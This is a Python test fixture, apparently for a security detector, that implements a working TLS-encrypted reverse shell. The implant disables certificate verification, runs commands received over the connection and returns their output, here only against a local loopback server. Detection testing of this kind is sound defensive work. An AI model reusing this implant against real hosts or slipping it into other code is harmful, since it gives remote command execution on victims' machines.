# technique: T1059.004 T1573.002 T1071.001
"""Reverse shell over TLS (T1059.004, T1573.002).

The encrypted variant from reverse-shell generators: the implant wraps its
socket with ssl (an SSLContext with verification disabled, as every such
one-liner does), reads commands from the TLS stream and returns
subprocess.getoutput() results. Because data passes through an SSL object,
the shell never sees a socket fd. The loopback server uses the CPython test
certificate if present, otherwise a throwaway one generated with openssl.

A good detector raises a high alert: commands received over an (encrypted)
network connection are run by a shell.
"""
import os, shutil, socket, ssl, subprocess, tempfile, threading

tmp = tempfile.mkdtemp()
cert = os.path.join(os.path.dirname(ssl.__file__), "test", "keycert.pem")
if not os.path.exists(cert):
    cert = os.path.join(tmp, "c.pem")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=x",
                    "-keyout", cert, "-out", cert, "-days", "1"], capture_output=True, timeout=8)
sctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); sctx.load_cert_chain(cert)
lsn = socket.socket(); lsn.bind(("127.0.0.1", 0)); lsn.listen(1)
def serve():
    try:
        c, _ = lsn.accept(); t = sctx.wrap_socket(c, server_side=True); t.settimeout(3)
        t.sendall(b"id\n"); t.recv(65536); t.sendall(b"exit\n"); t.close()
    except Exception: pass
threading.Thread(target=serve, daemon=True).start()
try:
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    s = ctx.wrap_socket(socket.create_connection(lsn.getsockname(), timeout=4))
    f = s.makefile("rb")
    while True:
        cmd = f.readline().decode().strip()
        if not cmd or cmd == "exit":
            break
        s.sendall(subprocess.getoutput(cmd).encode() + b"\n")
    s.close()
except Exception:
    pass
finally:
    shutil.rmtree(tmp, ignore_errors=True)
